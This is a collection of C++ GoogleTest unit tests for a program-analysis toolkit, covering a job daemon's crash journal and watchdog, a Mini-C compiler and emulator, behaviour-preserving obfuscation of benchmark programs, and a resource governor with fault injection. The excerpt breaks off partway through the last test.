TEST(ServeJournal, PoisonJobIsQuarantinedAndAnsweredPoisoned) {
  TempDir t;
  const std::string store = t.path + "/store";
  const JobSpec spec = tiny_spec(603);

  // Two incarnations started and never finished, and the log ends dirty:
  // exactly what GP_FAULT=job_crash=1 leaves behind after two daemon
  // deaths (tier1.sh drills the out-of-process version of this).
  {
    Journal j(store + "/journal.gpj");
    ASSERT_TRUE(j.open().ok());
    ASSERT_TRUE(j.append_admit(spec, spec.job_id(), "default").ok());
    ASSERT_TRUE(j.append_start(spec.job_id()).ok());
    ASSERT_TRUE(j.append_start(spec.job_id()).ok());
  }

  core::Engine engine{Config{}};
  ServeOptions opts;
  opts.socket_path = t.path + "/gp.sock";
  opts.store_dir = store;
  opts.poison_retries = 2;
  Server server(engine, opts);
  ASSERT_TRUE(server.start().ok());
  EXPECT_EQ(server.replay_summary().quarantined, 1u);
  EXPECT_EQ(server.replay_summary().requeued, 0u);

  auto c = Client::connect(opts.socket_path);
  ASSERT_TRUE(c.ok());
  auto adm = c.value().attach(spec.job_id());
  ASSERT_TRUE(adm.ok());
  ASSERT_TRUE(adm.value().accepted);
  EXPECT_TRUE(adm.value().ok.already_done);
  auto outcome = c.value().wait_result();
  ASSERT_TRUE(outcome.ok());
  EXPECT_EQ(static_cast<StatusCode>(outcome.value().status_code),
            StatusCode::Internal);
  EXPECT_NE(outcome.value().status_msg.find("poisoned"), std::string::npos);

  // An identical resubmit dedupes onto the pinned quarantine record — it
  // is never re-admitted to the queue.
  auto c2 = Client::connect(opts.socket_path);
  ASSERT_TRUE(c2.ok());
  auto readm = c2.value().submit(spec);
  ASSERT_TRUE(readm.ok());
  ASSERT_TRUE(readm.value().accepted);
  EXPECT_TRUE(readm.value().ok.already_done);
  auto again = c2.value().wait_result();
  ASSERT_TRUE(again.ok());
  EXPECT_NE(again.value().status_msg.find("poisoned"), std::string::npos);

  auto stats = Client::connect(opts.socket_path);
  ASSERT_TRUE(stats.ok());
  auto json = stats.value().stats();
  ASSERT_TRUE(json.ok());
  EXPECT_NE(json.value().find("\"quarantined\": 1"), std::string::npos);
  server.stop(/*drain=*/true);

  // Quarantine survives the clean shutdown's compaction: a third daemon
  // generation still answers `poisoned` without re-running anything.
  core::Engine engine2{Config{}};
  opts.socket_path = t.path + "/gen2.sock";
  Server server2(engine2, opts);
  ASSERT_TRUE(server2.start().ok());
  EXPECT_EQ(server2.replay_summary().quarantined, 1u);
  server2.stop(/*drain=*/true);
}

TEST(ServeJournal, CorruptionSweepReadsAsEndOfLogNeverACrash) {
  TempDir t;
  const std::string jpath = t.path + "/journal.gpj";
  const JobSpec closed = tiny_spec(604), open = tiny_spec(605);
  {
    Journal j(jpath);
    ASSERT_TRUE(j.open().ok());
    ASSERT_TRUE(j.append_admit(closed, closed.job_id(), "default").ok());
    ASSERT_TRUE(j.append_start(closed.job_id()).ok());
    ASSERT_TRUE(j.append_done(closed.job_id(), 0, 42).ok());
    ASSERT_TRUE(j.append_admit(open, open.job_id(), "default").ok());
  }
  auto pristine = serial::read_file(jpath);
  ASSERT_TRUE(pristine.ok());
  const std::vector<u8> bytes = pristine.value();

  auto restore = [&](const std::vector<u8>& b) {
    ASSERT_TRUE(serial::write_file_atomic(jpath, b).ok());
  };
  auto replay = [&]() -> ReplayResult {
    Journal j(jpath);
    const Status st = j.open();
    EXPECT_TRUE(st.ok()) << st.to_string();
    return j.take_replay();
  };

  // Truncated tail: the cut record reads as end-of-log; every record
  // before it survives.
  {
    std::vector<u8> cut(bytes.begin(), bytes.end() - 7);
    restore(cut);
    const ReplayResult r = replay();
    EXPECT_GT(r.torn_tail_bytes, 0u);
    ASSERT_EQ(r.jobs.size(), 1u);
    EXPECT_FALSE(r.jobs[0].open);
  }

  // Bit flip inside the final record: CRC rejects it, prefix survives.
  {
    std::vector<u8> flipped = bytes;
    flipped[flipped.size() - 3] ^= 0x40;
    restore(flipped);
    const ReplayResult r = replay();
    EXPECT_GT(r.torn_tail_bytes, 0u);
    EXPECT_EQ(r.records, 3u);
  }

  // Torn final append (injected): the journal's own fault point models a
  // crash mid-write; the next open truncates the torn half-record.
  {
    restore(bytes);
    {
      Journal j(jpath);
      ASSERT_TRUE(j.open().ok());
      (void)j.take_replay();
      fault::ScopedSpec tear("journal_append=1,seed=5");
      const Status st = j.append_start(open.job_id());
      EXPECT_EQ(st.code(), StatusCode::FaultInjected);
    }
    const ReplayResult r = replay();
    EXPECT_GT(r.torn_tail_bytes, 0u);
    EXPECT_EQ(r.records, 4u);  // the torn Start is gone, nothing else
    EXPECT_EQ(r.jobs[1].dead_incarnations, 0u);
  }

  // Version bump: the whole file reads as a foreign log and is rotated
  // out; replay starts empty rather than misparsing.
  {
    std::vector<u8> bumped = bytes;
    bumped[4] ^= 0xff;  // u32 version little-endian low byte
    restore(bumped);
    const ReplayResult r = replay();
    EXPECT_TRUE(r.rotated);
    EXPECT_TRUE(r.jobs.empty());
  }

  // Injected replay corruption: reads as end-of-log, never a crash.
  {
    restore(bytes);
    fault::ScopedSpec bad("journal_replay=1,seed=9");
    const ReplayResult r = replay();
    EXPECT_EQ(r.records, 0u);
    EXPECT_TRUE(r.jobs.empty());
  }
}

TEST(ServeJournal, CompactionKeepsLiveJobsAndCleanDrainMarksShutdown) {
  TempDir t;
  const std::string store = t.path + "/store";
  {
    core::Engine engine{Config{}};
    ServeOptions opts;
    opts.socket_path = t.path + "/gp.sock";
    opts.store_dir = store;
    // Tiny threshold: every completion triggers compaction, so the log
    // must stay bounded by live backlog, not by history.
    opts.journal_compact_bytes = 256;
    Server server(engine, opts);
    ASSERT_TRUE(server.start().ok());
    for (u64 seed = 620; seed < 626; ++seed) {
      auto c = Client::connect(opts.socket_path);
      ASSERT_TRUE(c.ok());
      auto adm = c.value().submit(tiny_spec(seed));
      ASSERT_TRUE(adm.ok());
      ASSERT_TRUE(adm.value().accepted);
      auto out = c.value().wait_result();
      ASSERT_TRUE(out.ok());
    }
    server.stop(/*drain=*/true);
  }
  // After six jobs and a clean drain the log holds only the header and
  // the CleanShutdown marker — history was compacted away.
  Journal j(store + "/journal.gpj");
  ASSERT_TRUE(j.open().ok());
  const ReplayResult r = j.take_replay();
  EXPECT_TRUE(r.clean_shutdown);
  EXPECT_TRUE(r.jobs.empty());
  EXPECT_LT(j.size_bytes(), 64u);
}

TEST(ServeJournal, WatchdogCancelsWedgedJobAndCountsTheKill) {
  TempDir t;
  core::Engine engine{Config{}};
  ServeOptions opts;
  opts.socket_path = t.path + "/gp.sock";
  opts.store_dir = t.path + "/store";
  opts.watchdog_ms = 100;  // grace beyond the job deadline
  Server server(engine, opts);
  ASSERT_TRUE(server.start().ok());
  // Wedge every job for 30s — far past deadline+grace; only the watchdog's
  // governor cancel can release it.
  server.set_test_wedge_ms(30'000);

  JobSpec spec = tiny_spec(630);
  spec.deadline_ms = 150;
  auto c = Client::connect(opts.socket_path);
  ASSERT_TRUE(c.ok());
  auto adm = c.value().submit(spec);
  ASSERT_TRUE(adm.ok());
  ASSERT_TRUE(adm.value().accepted);
  auto outcome = c.value().wait_result();
  ASSERT_TRUE(outcome.ok()) << outcome.status().to_string();
  // The wedge released well before its 30s: the watchdog fired and the
  // session came home degraded, freeing the worker slot.
  EXPECT_NE(static_cast<StatusCode>(outcome.value().status_code),
            StatusCode::Ok);

  auto c2 = Client::connect(opts.socket_path);
  ASSERT_TRUE(c2.ok());
  auto json = c2.value().stats();
  ASSERT_TRUE(json.ok());
  EXPECT_NE(json.value().find("\"watchdog_kills\": 1"), std::string::npos);
  server.set_test_wedge_ms(0);
  server.stop(/*drain=*/true);
}

}  // namespace
}  // namespace gp::serve
