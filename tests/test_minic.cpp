#include <gtest/gtest.h>

#include "codegen/codegen.hpp"
#include "emu/emu.hpp"
#include "minic/minic.hpp"

namespace gp::minic {
namespace {

/// Compile, run in the emulator, and return (exit_status, output bytes as
/// u64 little-endian chunks).
struct RunOutcome {
  u64 exit_status = 0;
  std::vector<u64> out;
  emu::StopReason reason = emu::StopReason::Running;
};

RunOutcome run_source(const std::string& src, u64 max_steps = 10'000'000) {
  auto prog = compile_source(src);
  auto img = codegen::compile(prog);
  emu::Emulator e(img);
  auto r = e.run(max_steps);
  RunOutcome o;
  o.reason = r.reason;
  o.exit_status = r.exit_status;
  const auto& bytes = e.output();
  for (size_t i = 0; i + 8 <= bytes.size(); i += 8) {
    u64 v = 0;
    for (int k = 0; k < 8; ++k) v |= static_cast<u64>(bytes[i + k]) << (8 * k);
    o.out.push_back(v);
  }
  return o;
}

u64 run_main(const std::string& body) {
  auto o = run_source("int main() { " + body + " }");
  EXPECT_EQ(o.reason, emu::StopReason::Exit);
  return o.exit_status;
}

TEST(MiniC, ReturnLiteral) { EXPECT_EQ(run_main("return 42;"), 42u); }

TEST(MiniC, Arithmetic) {
  EXPECT_EQ(run_main("return 2 + 3 * 4;"), 14u);
  EXPECT_EQ(run_main("return (2 + 3) * 4;"), 20u);
  EXPECT_EQ(run_main("return 10 - 2 - 3;"), 5u);  // left assoc
  EXPECT_EQ(run_main("return 7 & 12;"), 4u);
  EXPECT_EQ(run_main("return 5 | 9;"), 13u);
  EXPECT_EQ(run_main("return 6 ^ 3;"), 5u);
  EXPECT_EQ(run_main("return 1 << 10;"), 1024u);
  EXPECT_EQ(run_main("return 1024 >> 3;"), 128u);
  EXPECT_EQ(run_main("return -5 + 3;"), static_cast<u64>(-2));
  EXPECT_EQ(run_main("return ~0;"), static_cast<u64>(-1));
  EXPECT_EQ(run_main("return !5;"), 0u);
  EXPECT_EQ(run_main("return !0;"), 1u);
}

TEST(MiniC, HexAndCharLiterals) {
  EXPECT_EQ(run_main("return 0xff;"), 255u);
  EXPECT_EQ(run_main("return 'A';"), 65u);
  EXPECT_EQ(run_main("return '\\n';"), 10u);
}

TEST(MiniC, Comparisons) {
  EXPECT_EQ(run_main("return 3 < 5;"), 1u);
  EXPECT_EQ(run_main("return 5 < 3;"), 0u);
  EXPECT_EQ(run_main("return -1 < 0;"), 1u);  // signed compare
  EXPECT_EQ(run_main("return 3 <= 3;"), 1u);
  EXPECT_EQ(run_main("return 4 > 3;"), 1u);
  EXPECT_EQ(run_main("return 3 >= 4;"), 0u);
  EXPECT_EQ(run_main("return 3 == 3;"), 1u);
  EXPECT_EQ(run_main("return 3 != 3;"), 0u);
}

TEST(MiniC, LogicalOps) {
  EXPECT_EQ(run_main("return 2 && 3;"), 1u);
  EXPECT_EQ(run_main("return 2 && 0;"), 0u);
  EXPECT_EQ(run_main("return 0 || 7;"), 1u);
  EXPECT_EQ(run_main("return 0 || 0;"), 0u);
}

TEST(MiniC, VariablesAndAssignment) {
  EXPECT_EQ(run_main("int x = 5; int y = x * 2; x = y + 1; return x;"), 11u);
  EXPECT_EQ(run_main("int x; return x;"), 0u);  // zero-initialized
}

TEST(MiniC, IfElse) {
  EXPECT_EQ(run_main("int x = 5; if (x > 3) { return 1; } return 0;"), 1u);
  EXPECT_EQ(run_main("int x = 2; if (x > 3) { return 1; } else { return 2; }"),
            2u);
  EXPECT_EQ(run_main("int x = 2; if (x > 3) return 1; else if (x > 1) "
                     "return 2; else return 3;"),
            2u);
}

TEST(MiniC, WhileLoop) {
  EXPECT_EQ(run_main("int i = 0; int s = 0; "
                     "while (i < 10) { s = s + i; i = i + 1; } return s;"),
            45u);
}

TEST(MiniC, NestedLoops) {
  EXPECT_EQ(run_main("int i = 0; int s = 0; while (i < 5) { int j = 0; "
                     "while (j < 5) { s = s + 1; j = j + 1; } i = i + 1; } "
                     "return s;"),
            25u);
}

TEST(MiniC, LocalArrays) {
  EXPECT_EQ(run_main("int a[10]; int i = 0; "
                     "while (i < 10) { a[i] = i * i; i = i + 1; } "
                     "return a[7];"),
            49u);
}

TEST(MiniC, ByteArrays) {
  EXPECT_EQ(run_main("byte b[16]; b[3] = 0x1ff; return b[3];"), 0xffu);
  EXPECT_EQ(run_main("byte b[16]; b[0] = 65; b[1] = 66; "
                     "return b[0] * 1000 + b[1];"),
            65066u);
}

TEST(MiniC, GlobalVariables) {
  auto o = run_source("int g = 7; int h; "
                      "int main() { h = g + 1; g = h * 2; return g + h; }");
  EXPECT_EQ(o.exit_status, 24u);
}

TEST(MiniC, GlobalArrays) {
  auto o = run_source("int tab[4]; "
                      "int main() { tab[0] = 3; tab[3] = tab[0] + 4; "
                      "return tab[3]; }");
  EXPECT_EQ(o.exit_status, 7u);
}

TEST(MiniC, FunctionsAndCalls) {
  auto o = run_source(
      "int add(int a, int b) { return a + b; } "
      "int main() { return add(add(1, 2), add(3, 4)); }");
  EXPECT_EQ(o.exit_status, 10u);
}

TEST(MiniC, Recursion) {
  auto o = run_source(
      "int fib(int n) { if (n < 2) return n; "
      "return fib(n - 1) + fib(n - 2); } "
      "int main() { return fib(15); }");
  EXPECT_EQ(o.exit_status, 610u);
}

TEST(MiniC, ForwardCalls) {
  auto o = run_source(
      "int main() { return helper(20); } "
      "int helper(int n) { return n + 2; }");
  EXPECT_EQ(o.exit_status, 22u);
}

TEST(MiniC, OutBuiltin) {
  auto o = run_source("int main() { out(111); out(222); return 0; }");
  ASSERT_EQ(o.out.size(), 2u);
  EXPECT_EQ(o.out[0], 111u);
  EXPECT_EQ(o.out[1], 222u);
}

TEST(MiniC, StringLiteralsAndLoadb) {
  auto o = run_source(
      "int main() { int s = \"AB\"; return loadb(s) * 1000 + loadb(s + 1); }");
  EXPECT_EQ(o.exit_status, 65066u);
}

TEST(MiniC, RawLoadStore) {
  auto o = run_source(
      "int scratch[4]; "
      "int main() { int p = scratch; store(p + 8, 77); "
      "storeb(p, 0x41); return load(p + 8) * 1000 + loadb(p); }");
  EXPECT_EQ(o.exit_status, 77065u);
}

TEST(MiniC, PointerIndexing) {
  auto o = run_source(
      "int a[4]; "
      "int main() { int p = a; a[2] = 9; return p[2]; }");
  EXPECT_EQ(o.exit_status, 9u);
}

TEST(MiniC, SixParams) {
  auto o = run_source(
      "int f(int a, int b, int c, int d, int e, int g) "
      "{ return a + 2*b + 3*c + 4*d + 5*e + 6*g; } "
      "int main() { return f(1, 1, 1, 1, 1, 1); }");
  EXPECT_EQ(o.exit_status, 21u);
}

TEST(MiniC, CommentsIgnored) {
  EXPECT_EQ(run_main("// line comment\n /* block\ncomment */ return 1;"), 1u);
}

TEST(MiniC, Errors) {
  EXPECT_THROW(compile_source("int main() { return x; }"), Error);
  EXPECT_THROW(compile_source("int main() { int x = 1; int x = 2; }"), Error);
  EXPECT_THROW(compile_source("int f() { return 0; }"), Error);  // no main
  EXPECT_THROW(compile_source("int main() { undefined_fn(1); }"), Error);
  EXPECT_THROW(compile_source("int main() { return 1 + ; }"), Error);
  EXPECT_THROW(compile_source("int main(int x) { return 0; }"), Error);
}

TEST(MiniC, CfgVerifiesAndPrints) {
  auto prog = compile_source(
      "int sq(int x) { return x * x; } int main() { return sq(6); }");
  cfg::verify(prog);
  const std::string dump = cfg::to_string(prog);
  EXPECT_NE(dump.find("func sq"), std::string::npos);
  EXPECT_NE(dump.find("call"), std::string::npos);
}

TEST(MiniC, SwitchTerminatorCodegen) {
  // Build a CFG with a Switch directly (the frontend never emits one, but
  // flattening and virtualization do).
  cfg::Program prog;
  prog.functions.emplace_back();
  auto& f = prog.functions[0];
  f.name = "main";
  const auto sel = f.new_temp();
  const auto ret = f.new_temp();
  const auto b0 = f.new_block();
  const auto c0 = f.new_block();
  const auto c1 = f.new_block();
  const auto c2 = f.new_block();
  f.entry = b0;
  f.blocks[b0].instrs.push_back(cfg::Instr::constant(sel, 1));
  f.blocks[b0].term = cfg::Terminator::make_switch(sel, {c0, c1, c2});
  for (auto [blk, v] : {std::pair{c0, 10}, {c1, 20}, {c2, 30}}) {
    f.blocks[blk].instrs.push_back(cfg::Instr::constant(ret, v));
    f.blocks[blk].term = cfg::Terminator::ret(ret);
  }
  prog.main_index = 0;
  auto img = codegen::compile(prog);
  emu::Emulator e(img);
  auto r = e.run();
  EXPECT_EQ(r.reason, emu::StopReason::Exit);
  EXPECT_EQ(r.exit_status, 20u);
}

TEST(MiniC, BubbleSortEndToEnd) {
  auto o = run_source(R"(
    int a[8];
    int main() {
      a[0] = 5; a[1] = 2; a[2] = 7; a[3] = 1;
      a[4] = 9; a[5] = 3; a[6] = 8; a[7] = 0;
      int i = 0;
      while (i < 8) {
        int j = 0;
        while (j < 7 - i) {
          if (a[j] > a[j + 1]) {
            int t = a[j]; a[j] = a[j + 1]; a[j + 1] = t;
          }
          j = j + 1;
        }
        i = i + 1;
      }
      int k = 0;
      while (k < 8) { out(a[k]); k = k + 1; }
      return a[0];
    }
  )");
  EXPECT_EQ(o.reason, emu::StopReason::Exit);
  ASSERT_EQ(o.out.size(), 8u);
  for (size_t i = 0; i + 1 < o.out.size(); ++i)
    EXPECT_LE(o.out[i], o.out[i + 1]);
}

TEST(MiniC, FunctionSymbolsInImage) {
  auto prog = compile_source(
      "int helper(int x) { return x; } int main() { return helper(3); }");
  auto img = codegen::compile(prog);
  EXPECT_TRUE(img.find_symbol("main").has_value());
  EXPECT_TRUE(img.find_symbol("helper").has_value());
}

}  // namespace
}  // namespace gp::minic
