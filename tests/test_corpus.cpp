#include <gtest/gtest.h>

#include "codegen/codegen.hpp"
#include "corpus/corpus.hpp"
#include "emu/emu.hpp"
#include "minic/minic.hpp"
#include "obfuscate/obfuscate.hpp"

namespace gp::corpus {
namespace {

struct RunOutcome {
  u64 exit_status = 0;
  std::string output;
  emu::StopReason reason = emu::StopReason::Running;
  u64 steps = 0;
};

RunOutcome run(const cfg::Program& prog, u64 max_steps = 300'000'000) {
  auto img = codegen::compile(prog);
  emu::Emulator e(img);
  auto r = e.run(max_steps);
  return {r.exit_status, e.output_str(), r.reason, r.steps};
}

/// Every corpus program must compile, terminate, and emit output.
class CorpusProgramTest : public ::testing::TestWithParam<std::string> {};

TEST_P(CorpusProgramTest, CompilesAndRuns) {
  const auto& p = by_name(GetParam());
  auto prog = minic::compile_source(p.source);
  cfg::verify(prog);
  const auto o = run(prog);
  EXPECT_EQ(o.reason, emu::StopReason::Exit) << p.name;
  EXPECT_FALSE(o.output.empty()) << p.name << " must produce output";
  EXPECT_GT(o.steps, 100u) << p.name << " should do real work";
}

TEST_P(CorpusProgramTest, ObfuscationPreservesBehaviour) {
  const auto& p = by_name(GetParam());
  auto base = minic::compile_source(p.source);
  const auto expected = run(base);
  ASSERT_EQ(expected.reason, emu::StopReason::Exit);

  for (const auto& opts :
       {obf::Options::llvm_obf(11), obf::Options::tigress(11)}) {
    auto prog = minic::compile_source(p.source);
    obf::obfuscate(prog, opts);
    const auto o = run(prog);
    EXPECT_EQ(o.reason, emu::StopReason::Exit)
        << p.name << " under " << opts.name();
    EXPECT_EQ(o.exit_status, expected.exit_status)
        << p.name << " under " << opts.name();
    EXPECT_EQ(o.output, expected.output)
        << p.name << " under " << opts.name();
  }
}

std::vector<std::string> all_names() {
  std::vector<std::string> names;
  for (const auto& p : benchmark()) names.push_back(p.name);
  for (const auto& p : spec()) names.push_back(p.name);
  names.push_back(netperf().name);
  return names;
}

INSTANTIATE_TEST_SUITE_P(All, CorpusProgramTest,
                         ::testing::ValuesIn(all_names()),
                         [](const auto& info) { return info.param; });

TEST(Corpus, SuitesHaveExpectedSizes) {
  EXPECT_EQ(benchmark().size(), 12u);
  EXPECT_EQ(spec().size(), 4u);
  EXPECT_THROW(by_name("no_such_program"), Error);
}

TEST(Corpus, NetperfParsesItsSimulatedCommandLine) {
  auto prog = minic::compile_source(netperf().source);
  const auto o = run(prog);
  ASSERT_EQ(o.reason, emu::StopReason::Exit);
  // out(local_rate)=16, out(remote_rate)=32 as 8-byte LE words.
  ASSERT_GE(o.output.size(), 16u);
  EXPECT_EQ(static_cast<u8>(o.output[0]), 16);
  EXPECT_EQ(static_cast<u8>(o.output[8]), 32);
}

}  // namespace
}  // namespace gp::corpus
