// Unit tests for the shared resource governor (support/governor) and the
// deterministic fault-injection harness (support/fault).
#include <gtest/gtest.h>

#include <thread>
#include <vector>

#include "support/fault.hpp"
#include "support/governor.hpp"
#include "support/status.hpp"

namespace gp {
namespace {

TEST(Status, DefaultIsOkAndMergeKeepsFirstFailure) {
  Status s;
  EXPECT_TRUE(s.ok());
  EXPECT_EQ(s.code(), StatusCode::Ok);

  s.merge(Status::deadline_exceeded("first"));
  EXPECT_EQ(s.code(), StatusCode::DeadlineExceeded);
  EXPECT_EQ(s.message(), "first");

  // Later failures do not overwrite the first recorded reason.
  s.merge(Status::cancelled("second"));
  EXPECT_EQ(s.code(), StatusCode::DeadlineExceeded);
  EXPECT_EQ(s.message(), "first");

  // Merging Ok into a failure is a no-op too.
  s.merge(Status());
  EXPECT_EQ(s.code(), StatusCode::DeadlineExceeded);
}

TEST(Status, ToStringNamesTheCode) {
  EXPECT_EQ(Status().to_string(), "ok");
  EXPECT_EQ(Status::budget_exhausted("sym steps").to_string(),
            "budget-exhausted: sym steps");
}

TEST(StatusResult, ValueAndErrorPaths) {
  Result<int> good(7);
  ASSERT_TRUE(good.ok());
  EXPECT_EQ(good.value(), 7);
  EXPECT_EQ(good.value_or(-1), 7);

  Result<int> bad(Status::fault_injected("boom"));
  EXPECT_FALSE(bad.ok());
  EXPECT_EQ(bad.status().code(), StatusCode::FaultInjected);
  EXPECT_EQ(bad.value_or(-1), -1);
}

TEST(GovernorDeadline, NeverExpiresWhenUnlimited) {
  Deadline d;
  EXPECT_TRUE(d.unlimited());
  EXPECT_FALSE(d.expired());
  EXPECT_TRUE(d.remaining_seconds() > 1e18);
}

TEST(GovernorDeadline, ExpiresAndCombines) {
  const Deadline past = Deadline::after_seconds(-1.0);
  EXPECT_TRUE(past.expired());
  const Deadline far = Deadline::after_seconds(3600.0);
  EXPECT_FALSE(far.expired());
  EXPECT_GT(far.remaining_seconds(), 3000.0);

  // earlier() picks the tighter bound; unlimited never wins.
  EXPECT_TRUE(Deadline::earlier(past, far).expired());
  EXPECT_TRUE(Deadline::earlier(far, past).expired());
  EXPECT_FALSE(Deadline::earlier(Deadline::never(), far).expired());
  EXPECT_FALSE(Deadline::earlier(far, Deadline::never()).unlimited());
  EXPECT_TRUE(
      Deadline::earlier(Deadline::never(), Deadline::never()).unlimited());
}

TEST(GovernorDeadline, RemainingClampsToZeroOnceExpired) {
  // An expired deadline must read as exactly 0 remaining, never negative:
  // callers size retry budgets and progress bars from this value, and a
  // negative remainder used to leak into "seconds left" report fields.
  const Deadline past = Deadline::after_seconds(-5.0);
  EXPECT_TRUE(past.expired());
  EXPECT_EQ(past.remaining_seconds(), 0.0);

  const Deadline barely = Deadline::after_seconds(-1e-9);
  EXPECT_GE(barely.remaining_seconds(), 0.0);

  const Deadline future = Deadline::after_seconds(60.0);
  EXPECT_GT(future.remaining_seconds(), 0.0);
  EXPECT_LE(future.remaining_seconds(), 60.0);
}

TEST(GovernorCancelToken, CopiesShareTheFlag) {
  CancelToken a;
  CancelToken b = a;
  EXPECT_FALSE(b.cancelled());
  a.cancel();
  EXPECT_TRUE(b.cancelled());
}

TEST(GovernorBudget, ZeroLimitMeansUnlimited) {
  Budget b;
  EXPECT_TRUE(b.unlimited());
  EXPECT_FALSE(b.exhausted());
  for (int i = 0; i < 1000; ++i) EXPECT_TRUE(b.try_consume());
}

TEST(GovernorBudget, ConsumesExactlyLimitUnits) {
  Budget b(5);
  EXPECT_TRUE(b.try_consume(3));
  EXPECT_FALSE(b.try_consume(3));  // only 2 left: claim nothing
  EXPECT_EQ(b.used(), 3u);
  EXPECT_TRUE(b.try_consume(2));
  EXPECT_TRUE(b.exhausted());
  EXPECT_FALSE(b.try_consume());
  EXPECT_EQ(b.used(), 5u);
}

TEST(GovernorBudget, ConcurrentConsumersNeverOversubscribe) {
  Budget b(10'000);
  std::vector<std::thread> workers;
  std::atomic<u64> granted{0};
  for (int t = 0; t < 4; ++t)
    workers.emplace_back([&] {
      while (b.try_consume()) granted.fetch_add(1);
    });
  for (auto& w : workers) w.join();
  EXPECT_EQ(granted.load(), 10'000u);
  EXPECT_EQ(b.used(), 10'000u);
}

TEST(Governor, PollReportsCancellationBeforeDeadline) {
  GovernorOptions opts;
  opts.deadline_seconds = -1.0;  // <= 0: no deadline
  Governor idle(opts);
  EXPECT_TRUE(idle.poll().ok());
  EXPECT_FALSE(idle.should_stop());

  idle.cancel();
  EXPECT_EQ(idle.poll().code(), StatusCode::Cancelled);
  EXPECT_TRUE(idle.should_stop());

  Governor late;
  late.set_deadline(Deadline::after_seconds(-1.0));
  EXPECT_EQ(late.poll().code(), StatusCode::DeadlineExceeded);
  late.cancel();  // cancellation outranks the deadline in poll()
  EXPECT_EQ(late.poll().code(), StatusCode::Cancelled);
}

TEST(Governor, OptionsMapToBudgets) {
  GovernorOptions opts;
  opts.max_solver_checks = 2;
  opts.max_sym_steps = 3;
  opts.max_expr_nodes = 4;
  EXPECT_TRUE(opts.any_limit());
  Governor g(opts);
  EXPECT_EQ(g.solver_checks().limit(), 2u);
  EXPECT_EQ(g.sym_steps().limit(), 3u);
  EXPECT_EQ(g.expr_nodes().limit(), 4u);
  EXPECT_TRUE(g.deadline().unlimited());
  EXPECT_FALSE(GovernorOptions{}.any_limit());
}

TEST(GovernorOptions, FromEnvParsesKnobs) {
  setenv("GP_DEADLINE_MS", "1500", 1);
  setenv("GP_SOLVER_CHECKS", "77", 1);
  setenv("GP_SYM_STEPS", "88", 1);
  setenv("GP_EXPR_NODES", "99", 1);
  const GovernorOptions opts = GovernorOptions::from_env();
  unsetenv("GP_DEADLINE_MS");
  unsetenv("GP_SOLVER_CHECKS");
  unsetenv("GP_SYM_STEPS");
  unsetenv("GP_EXPR_NODES");
  EXPECT_DOUBLE_EQ(opts.deadline_seconds, 1.5);
  EXPECT_EQ(opts.max_solver_checks, 77u);
  EXPECT_EQ(opts.max_sym_steps, 88u);
  EXPECT_EQ(opts.max_expr_nodes, 99u);

  const GovernorOptions unset = GovernorOptions::from_env();
  EXPECT_FALSE(unset.any_limit());
}

TEST(Fault, ParseSpecAcceptsTheDocumentedGrammar) {
  const auto r =
      fault::parse_spec("seed=42,decode=0.01,solver=0.5,emu=1,alloc=0");
  ASSERT_TRUE(r.ok());
  const fault::Spec& s = r.value();
  EXPECT_EQ(s.seed, 42u);
  EXPECT_DOUBLE_EQ(s.rate(fault::Point::Decode), 0.01);
  EXPECT_DOUBLE_EQ(s.rate(fault::Point::Solver), 0.5);
  EXPECT_DOUBLE_EQ(s.rate(fault::Point::Emu), 1.0);
  EXPECT_DOUBLE_EQ(s.rate(fault::Point::Alloc), 0.0);
  EXPECT_TRUE(s.any());
}

TEST(Fault, ParseSpecRejectsTyposAndBadRates) {
  EXPECT_FALSE(fault::parse_spec("decoed=0.1").ok());
  EXPECT_FALSE(fault::parse_spec("decode=1.5").ok());
  EXPECT_FALSE(fault::parse_spec("decode=-0.1").ok());
  EXPECT_FALSE(fault::parse_spec("decode=abc").ok());
  EXPECT_FALSE(fault::parse_spec("decode").ok());
  EXPECT_FALSE(fault::parse_spec("seed=notanumber").ok());
}

TEST(Fault, UnknownPointNamesTheTypoAndListsEveryValidPoint) {
  const auto r = fault::parse_spec("wirte=0.5");
  ASSERT_FALSE(r.ok());
  const std::string& msg = r.status().message();
  EXPECT_NE(msg.find("wirte"), std::string::npos) << msg;
  // The error must enumerate the full grammar so a chaos-run typo is
  // self-diagnosing — including the I/O and socket points.
  for (const char* name : {"decode", "solver", "emu", "alloc", "write",
                           "read", "rename", "accept", "sock_read",
                           "sock_write", "journal_append", "journal_replay",
                           "job_crash"})
    EXPECT_NE(msg.find(name), std::string::npos) << "missing " << name;
  EXPECT_EQ(fault::valid_point_names(),
            "decode, solver, emu, alloc, write, read, rename, accept, "
            "sock_read, sock_write, journal_append, journal_replay, "
            "job_crash");
}

TEST(Fault, ParseSpecAcceptsTheIoPoints) {
  const auto r = fault::parse_spec("seed=3,write=0.25,read=0.5,rename=1");
  ASSERT_TRUE(r.ok());
  EXPECT_DOUBLE_EQ(r.value().rate(fault::Point::ShortWrite), 0.25);
  EXPECT_DOUBLE_EQ(r.value().rate(fault::Point::ReadCorrupt), 0.5);
  EXPECT_DOUBLE_EQ(r.value().rate(fault::Point::RenameFail), 1.0);
}

TEST(Fault, ParseSpecAcceptsTheSocketPoints) {
  const auto r =
      fault::parse_spec("seed=3,accept=0.25,sock_read=0.5,sock_write=1");
  ASSERT_TRUE(r.ok());
  EXPECT_DOUBLE_EQ(r.value().rate(fault::Point::Accept), 0.25);
  EXPECT_DOUBLE_EQ(r.value().rate(fault::Point::SockRead), 0.5);
  EXPECT_DOUBLE_EQ(r.value().rate(fault::Point::SockWrite), 1.0);
}

TEST(Fault, GrammarAndRegisteredPointsCannotDrift) {
  // Every key the error-message grammar advertises must round-trip through
  // the parser, and every registered Point must be reachable by its
  // advertised name. Adding an enum value without its point_name case (or
  // vice versa) fails here instead of surfacing as a confusing chaos-run
  // rejection.
  const std::string names = fault::valid_point_names();
  size_t start = 0, listed = 0;
  while (start < names.size()) {
    size_t end = names.find(", ", start);
    if (end == std::string::npos) end = names.size();
    const std::string name = names.substr(start, end - start);
    ++listed;
    const auto parsed = fault::parse_spec(name + "=0.5");
    ASSERT_TRUE(parsed.ok()) << "advertised key '" << name
                             << "' rejected by parse_spec";
    EXPECT_TRUE(parsed.value().any()) << name;
    start = end + 2;
  }
  EXPECT_EQ(listed, static_cast<size_t>(fault::Point::kCount));
  for (size_t i = 0; i < static_cast<size_t>(fault::Point::kCount); ++i) {
    const std::string name = fault::point_name(static_cast<fault::Point>(i));
    EXPECT_NE(names.find(name), std::string::npos)
        << "point " << name << " missing from valid_point_names()";
  }
}

TEST(Fault, DisabledByDefaultAndNeverFires) {
  fault::disable();
  EXPECT_FALSE(fault::enabled());
